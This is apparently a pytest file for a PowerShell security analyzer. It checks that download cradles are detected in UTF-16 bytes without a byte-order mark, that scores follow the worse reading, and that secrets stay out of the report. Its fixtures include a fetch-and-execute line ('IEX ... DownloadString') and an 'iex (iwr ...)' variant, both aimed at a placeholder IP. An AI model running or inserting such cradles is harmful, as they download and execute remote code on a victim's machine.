"""Bytes that look like UTF-16 without a mark: what the other reading holds is told beside the first."""

from __future__ import annotations

import json
from typing import Any

import pytest

from pipeline.analysis.report import FIELDS, Rules
from pipeline.analyze import examine

CRADLE = "$password = 'hunter2-and-more'\nIEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\n"


def analysis(data: bytes) -> dict[str, Any]:
    result, error = examine("x.ps1", "ps1", data, Rules())
    assert error is None
    read: dict[str, Any] = json.loads(result)
    return read


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_what_the_other_reading_does_is_found_and_said_to_be_of_that_reading(encoding: str) -> None:
    said = analysis(CRADLE.encode(encoding))
    found = {issue["rule"]: issue for issue in said["security_issues"]}
    assert found["PS012_DownloadCradle"]["message"].startswith("In the second reading: ")
    assert found["PS012_DownloadCradle"]["evidence"]["layer"] == 0
    assert said["layers"][0]["how"] == "another encoding"
    assert encoding in said["notes"][0]


def test_the_scores_are_those_of_the_worse_reading() -> None:
    said, alone = analysis(CRADLE.encode("utf-16-le")), analysis(CRADLE.encode())
    names = ("malice_score", "hygiene_score", "security_score", "risk_score")
    assert [said[name] for name in names] == [alone[name] for name in names]
    assert said["score_reasons"] | {"quality": None} == alone["score_reasons"] | {"quality": None}
    assert said["quality_score"] != alone["quality_score"], "how well kept it is says what PowerShell reads"


def test_layers_inside_of_the_other_reading_stand_behind_it() -> None:
    said = analysis("iex 'iex (iwr http://203.0.113.7/a.ps1)'".encode("utf-16-le"))
    assert said["layers"][0]["how"] == "another encoding"
    inner = next(number for number, layer in enumerate(said["layers"]) if layer["text"].startswith("iex (iwr"))
    assert {issue["evidence"]["layer"] for issue in said["security_issues"] if issue["rule"] == "PS012_DownloadCradle"} >= {inner}


def test_a_harmless_second_reading_changes_no_score() -> None:
    said = analysis("Get-Date\n".encode("utf-16-le"))
    assert len(said["notes"]) >= 1
    assert not any("which is worse" in note for note in said["notes"])


def test_every_field_has_a_value_or_a_reason() -> None:
    said = analysis(CRADLE.encode("utf-16-le"))
    assert {field for field in FIELDS if said[field] is None} == set(said["unknown"])


def test_no_secret_of_either_reading_is_told() -> None:
    assert "hunter2" not in json.dumps(analysis(CRADLE.encode("utf-16-le")))


def test_one_reading_is_all_there_is_of_ordinary_bytes() -> None:
    assert not any("second" in note for note in analysis(CRADLE.encode())["notes"])
